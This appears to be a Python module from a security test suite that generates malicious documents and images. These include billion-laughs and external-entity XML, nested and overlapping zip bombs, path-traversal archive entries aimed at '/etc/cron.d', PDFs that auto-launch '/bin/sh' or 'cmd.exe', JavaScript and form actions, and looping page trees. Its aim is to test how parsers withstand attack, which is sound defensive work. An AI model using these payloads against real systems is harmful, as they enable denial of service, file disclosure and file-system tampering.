"""Documents and scans that would harm: that act by themselves, name other files, unpack without end, or never end."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from media.attacks import Bait, Recipe, large_png, made_of, of_bytes
from media.boxes import clip
from media.packages import BODY, OFFICE_RELATIONS, docx, odt, package, pdf, raw_pdf
from media.workbooks import RECIPES as WORKBOOKS
from media.workbooks import ods_asking, picture, pptx, slides_asking, workbook_asking, xlsx, zip_of

MIB = 1024 * 1024
LAUGHS = (
    "<!DOCTYPE l [<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 30)) + "]>{before}&l29;{after}"
)
"""Ten to the power of 29, laid out in a page."""
OUTSIDE = "<!DOCTYPE l [<!ENTITY x SYSTEM '{target}'><!ENTITY % y SYSTEM '{target}'> %y;]>{before}&x;{after}"


def references(bait: Bait) -> dict[str, Recipe]:
    """Return the documents that name another file or a server."""
    found: dict[str, Recipe] = {}
    for where, target in bait.both.items():
        image = f'<Relationship Id="b" Type="{OFFICE_RELATIONS}/image" Target="{target}" TargetMode="External"/>'
        template = f'<Relationship Id="c" Type="{OFFICE_RELATIONS}/attachedTemplate" Target="{target}" TargetMode="External"/>'
        link = f'<draw:image xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xlink:href="{target}"/>'
        outside = OUTSIDE.replace("{target}", target)
        found |= {
            f"linked-picture-{where}.docx": of_bytes(docx(relations=image)),
            f"asks-{where}.xlsx": workbook_asking(target),
            f"asks-{where}.pptx": slides_asking(target),
            f"asks-{where}.ods": ods_asking(target),
            f"linked-template-{where}.docx": of_bytes(docx(relations=template)),
            f"outside-entity-{where}.docx": of_bytes(docx({"word/document.xml": outside.format(before=BODY[:-37], after=BODY[-37:])})),
            f"outside-entity-in-properties-{where}.docx": of_bytes(
                docx({"docProps/app.xml": outside.format(before="<Properties><Pages>", after="</Pages></Properties>")})
            ),
            f"linked-picture-{where}.odt": of_bytes(odt({"content.xml": f"<office:document-content>{link}</office:document-content>"})),
            f"outside-entity-{where}.odt": of_bytes(odt({"content.xml": outside.format(before="<x>", after="</x>")})),
            f"stream-elsewhere-{where}.pdf": made_of(
                lambda target=target: raw_pdf(  # type: ignore[misc]
                    {
                        1: b"<</Type/Catalog/Pages 2 0 R>>",
                        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
                        4: b"<</Length 0/F<</FS/URL/F(" + target.encode() + b")>>>>stream\n\nendstream",
                    }
                )
            ),
            f"goes-elsewhere-{where}.pdf": made_of(partial(pdf, partial(_opens, Dictionary(S=Name.GoToR, F=target, D=Array([0]))))),
            f"submits-{where}.pdf": made_of(partial(pdf, partial(_opens, Dictionary(S=Name.SubmitForm, F=target)))),
            f"picture-language-{where}.png": of_bytes(f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{target}"/></svg>'.encode()),
            f"postscript-{where}.jpg": of_bytes(b"\xff\xd8\xff" + f"%!PS-Adobe-3.0 EPSF-3.0\n({target}) (r) file\nshowpage\n".encode()),
        }
    return found


def _opens(action: Dictionary, made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = action


def _acts(kind: str, made: pikepdf.Pdf) -> None:
    """Put in something that acts by itself."""
    root, page = made.Root, made.pages[0].obj
    match kind:
        case "launch":
            _opens(Dictionary(S=Name.Launch, F="/bin/sh", Win=Dictionary(F="cmd.exe", P="/c calc")), made)
        case "script":
            _opens(Dictionary(S=Name.JavaScript, JS="app.launchURL('http://127.0.0.1:9/')"), made)
            root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript, JS="while(1);")])))
        case "file":
            attached: Any = pikepdf.AttachedFileSpec  # its types ask for all that it takes
            made.attachments["../../etc/cron.d/x"] = attached(made, b"MZ" + bytes(2000), filename="../../x.exe")
        case "media":
            page.Annots = Array(
                [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary())]
            )
        case "form":
            root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp><script>xfa.host.gotoURL('http://127.0.0.1:9/')</script></xdp>"))
        case "page":
            page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="this.exportDataObject({nLaunch: 2})"))


def _tree(depth: int) -> bytes:
    """Return a tree of pages each of whose branches is twice the same: 2 to the power of its depth, in few bytes."""
    branches = {n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 9>>" % (n + 1, n + 1) for n in range(2, depth + 2)}
    leaf = {depth + 2: b"<</Type/Page/MediaBox[0 0 9 9]>>"}
    return raw_pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", **branches, **leaf})


def _kids(kids: bytes, *, count: int = 1) -> bytes:
    return raw_pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count)})


def _packed(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def _bomb_pdf(times: int) -> bytes:
    """Return a page whose content is half a gigabyte of blanks, packed so many times."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(b" " * MIB) for _ in range(512)) + packer.flush()
    content = _packed(content, times - 1)
    filters = b"/FlateDecode" * times
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99999999 99999999]/Contents 4 0 R>>",
            4: b"<</Length %d/Filter[%b]>>stream\n%b\nendstream" % (len(content), filters, content),
        }
    )


def _overlapping(entries: int) -> bytes:
    """Return an archive whose entries all stand at one place, so that each unpacks to the same."""
    base = package({"word/document.xml": bytes(20 * MIB)})
    start = base.find(b"PK\1\2")
    one = base[start : base.find(b"PK\5\6")]
    listed = b"".join(one[:-17] + b"word/%012d" % number for number in range(entries - 1)) + one
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, len(listed), start, 0)
    return base[:start] + listed + end


def _crowded(entries: int) -> bytes:
    """Return an archive that lists so many names, in a table larger than what it holds."""
    base = docx()
    start = base.find(b"PK\1\2")
    listed = base[start : base.find(b"PK\5\6")]
    one = bytearray(listed[: 46 + len("[Content_Types].xml")])
    listed += bytes(one) * entries
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, entries + 5, entries + 5, len(listed), start)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, start + len(listed), 1)
    return base[:start] + listed + end64 + locator + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 5, 5, 100, start, 0)


def _says_less(path: Path) -> None:
    """Say that what unpacks to 64 MiB unpacks to 10 bytes."""
    content = bytearray(docx({"docProps/app.xml": bytes(64 * MIB)}))
    for mark, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        found = content.find(mark)
        while found >= 0:
            if struct.unpack_from("<I", content, found + at)[0] == 64 * MIB:
                struct.pack_into("<I", content, found + at, 10)
            found = content.find(mark, found + 4)
    path.write_bytes(content)


def _large_jpeg() -> bytes:
    """Say that a little scan is 65,500 pixels each way (ITU-T T.81, B.2.2)."""
    with io.BytesIO() as out:
        Image.new("RGB", (64, 64), "white").save(out, "JPEG")
        content = bytearray(out.getvalue())
    struct.pack_into(">HH", content, content.find(b"\xff\xc0") + 5, 65_500, 65_500)
    return bytes(content)


def _many_scans() -> bytes:
    """Return a progressive JPEG whose last scan comes ten thousand times."""
    with io.BytesIO() as out:
        Image.new("L", (4096, 4096), "white").save(out, "JPEG", progressive=True)
        content = out.getvalue()
    last = content.rfind(b"\xff\xda")
    return content[:last] + content[last:-2] * 10_000 + b"\xff\xd9"


def _squeezed(size: int) -> bytes:
    return zip_of({"4.jpg": bytes(size)}, packing=zipfile.ZIP_DEFLATED)


def _text_bomb() -> bytes:
    png, packer = large_png(16, 16), zlib.compressobj(9)
    text = b"Comment\0\0" + b"".join(packer.compress(b" " * MIB) for _ in range(512)) + packer.flush()
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return png[:33] + chunk + png[33:]


def _scan(form: str) -> bytes:
    with io.BytesIO() as out:
        Image.new("RGB", (64, 64), "white").save(out, form)
        return out.getvalue()


_BRANCH = "<office:document-content>", "</office:document-content>"
OTHERS: dict[str, Recipe] = {
    **{f"acts-{kind}.pdf": made_of(partial(pdf, partial(_acts, kind))) for kind in ("launch", "script", "file", "media", "form", "page")},
    # Locked.
    "locked-for-readers.pdf": made_of(partial(pdf, lambda _: None, encryption=pikepdf.Encryption(owner="owner", user="user", R=6))),
    "locked-old.pdf": made_of(
        partial(pdf, lambda _: None, encryption=pikepdf.Encryption(owner="owner", user="user", R=3, aes=False, metadata=False))
    ),
    # Unpacks without end.
    "bomb-many.docx": made_of(lambda: docx({f"word/media/{n}.bin": bytes(32 * MIB) for n in range(16)})),
    "bomb-one.docx": made_of(lambda: docx({"word/document.xml": bytes(400 * MIB)})),
    "bomb-just-allowed.docx": made_of(lambda: docx({"word/document.xml": b"<" * (190 * MIB)})),
    "bomb-in-bomb.docx": made_of(lambda: docx({"word/embeddings/1.docx": docx({"word/embeddings/2.docx": docx({"x": bytes(99 * MIB)})})})),
    "bomb-overlapping.docx": made_of(partial(_overlapping, 4000)),
    "bomb-that-says-less.docx": _says_less,
    "bomb-of-names.docx": made_of(partial(_crowded, 1_000_000)),
    "laughs.docx": of_bytes(docx({"word/document.xml": LAUGHS.format(before=BODY[:-37], after=BODY[-37:])})),
    "laughs-in-properties.docx": of_bytes(
        docx({"docProps/app.xml": LAUGHS.format(before="<Properties><Pages>", after="</Pages></Properties>")})
    ),
    "laughs.odt": of_bytes(odt({"content.xml": LAUGHS.format(before=_BRANCH[0], after=_BRANCH[1])})),
    "laughs-in-properties.odt": of_bytes(odt({"meta.xml": LAUGHS.format(before="<office:meta>", after="</office:meta>")})),
    "marks-unended.docx": made_of(lambda: docx({"word/document.xml": b"<a " * (5 * MIB), "docProps/app.xml": b"<Pages>" * MIB})),
    "names-outside.docx": of_bytes(
        docx({"../../../../tmp/omsap-was-here": "x", "/etc/cron.d/omsap": "x", "word/media/\U0001f4a3.png": "x"})
    ),
    "bomb-many.xlsx": made_of(lambda: xlsx(parts={f"xl/media/{n}.bin": bytes(32 * MIB) for n in range(16)})),
    "bomb-of-strings.xlsx": made_of(lambda: xlsx(parts={"xl/sharedStrings.xml": b"<si>" * (45 * MIB)})),
    "laughs.xlsx": made_of(lambda: xlsx(parts={"xl/sharedStrings.xml": LAUGHS.format(before="<sst>", after="</sst>")})),
    "laughs.pptx": made_of(lambda: pptx(1, parts={"ppt/slides/slide1.xml": LAUGHS.format(before="<p>", after="</p>")})),
    "types-unended.xlsx": made_of(lambda: xlsx(parts={"[Content_Types].xml": b"<Override " * (3 * MIB)})),
    **{
        f"{name}.zip": WORKBOOKS[f"{name}.zip"]
        for name in ("bomb", "says-less", "outside", "absolute", "link", "with-program", "with-zip", "many", "locked")
    },
    "holds-nothing.zip": WORKBOOKS["empty.zip"],
    "bomb-in-bomb.zip": made_of(lambda: zip_of({"1.jpg": picture(), "2.zip": zip_of({"3.zip": _squeezed(99 * MIB)})})),
    "bomb-overlapping.zip": made_of(partial(_overlapping, 4000)),
    "bomb-of-names.zip": made_of(partial(_crowded, 1_000_000)),
    "large-pictures.zip": made_of(lambda: zip_of({f"{number}.png": large_png(15_000, 15_000) for number in range(150)})),
    "long-pictures.zip": made_of(lambda: zip_of({f"{number}.jpg": _many_scans() for number in range(5)})),
    "bomb.pdf": made_of(partial(_bomb_pdf, 1)),
    "bomb-in-bomb.pdf": made_of(partial(_bomb_pdf, 3)),
    # Without end.
    "page-of-itself.pdf": of_bytes(_kids(b"2 0 R")),
    "million-pages-of-itself.pdf": made_of(lambda: _kids(b"2 0 R " * 1_000_000, count=1_000_000)),
    "pages-2-to-the-60.pdf": of_bytes(_tree(60)),
    "pages-deep.pdf": made_of(
        lambda: raw_pdf(
            {1: b"<</Type/Catalog/Pages 2 0 R>>", **{n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 50_000)}}
        )
    ),
    "counts-2-billion.pdf": of_bytes(_kids(b"3 0 R", count=2_147_483_647)),
    "arrays-in-arrays.pdf": made_of(lambda: raw_pdf({1: b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 500_000 + b"]" * 500_000 + b">>"})),
    "cross-references-loop.pdf": of_bytes(
        _kids(b"3 0 R").replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % _kids(b"3 0 R").find(b"xref\n"))
    ),
    "objects-8-million.pdf": of_bytes(_kids(b"3 0 R").replace(b"/Size 3", b"/Size 8388607")),
    "length-of-itself.pdf": of_bytes(
        raw_pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0/Length 2 0 R>>stream\nx\nendstream"})
    ),
    # Too large.
    "60000-wide.png": made_of(partial(large_png, 60_000, 60_000)),
    "15000-wide.png": made_of(partial(large_png, 15_000, 15_000)),
    "65500-wide.jpg": of_bytes(_large_jpeg()),
    "ten-thousand-scans.jpg": made_of(_many_scans),
    "text-without-end.png": made_of(_text_bomb),
    # Two things at once.
    "plan-and-archive.pdf": made_of(lambda: pdf(lambda _: None) + docx()),
    "archive-and-plan.pdf": made_of(lambda: docx() + pdf(lambda _: None)),
    "web-page-and-plan.pdf": made_of(lambda: b"<html><script>location='http://127.0.0.1:9/'</script>\n" + pdf(lambda _: None)),
    "scan-and-archive.jpg": made_of(lambda: _scan("JPEG") + docx()),
    "scan-and-web-page.png": made_of(lambda: _scan("PNG") + b"<html><script>location='http://127.0.0.1:9/'</script></html>"),
    "clip-called-a-plan.pdf": made_of(lambda: clip(_scan("PNG"), _scan("PNG"))),
    "empty.pdf": of_bytes(b""),
    "empty-archive.docx": of_bytes(struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0, 0, 0, 0, 0)),
}
WHOLE: dict[str, Callable[[], bytes]] = {
    "plan.pdf": lambda: pdf(lambda _: None),
    "plan.docx": docx,
    "plan.odt": lambda: odt({}),
    "scan.jpg": partial(_scan, "JPEG"),
    "scan.png": partial(_scan, "PNG"),
    "budget.xlsx": partial(xlsx, "<row><c><v>1</v></c></row>"),
    "slides.pptx": pptx,
    "pictures.zip": lambda: zip_of({f"{number}.jpg": _scan("JPEG") for number in range(3)}),
}
TENTHS: dict[str, Recipe] = {
    f"{tenth}-tenths-of-{name}": made_of(lambda whole=whole, tenth=tenth: whole()[: len(whole()) * tenth // 10])  # type: ignore[misc]
    for name, whole in WHOLE.items()
    for tenth in range(1, 10)
}


def recipes(bait: Bait) -> dict[str, Recipe]:
    """Return every attack of a document, by the name of the file."""
    return {**references(bait), **OTHERS, **TENTHS}


RECIPES = recipes(Bait())
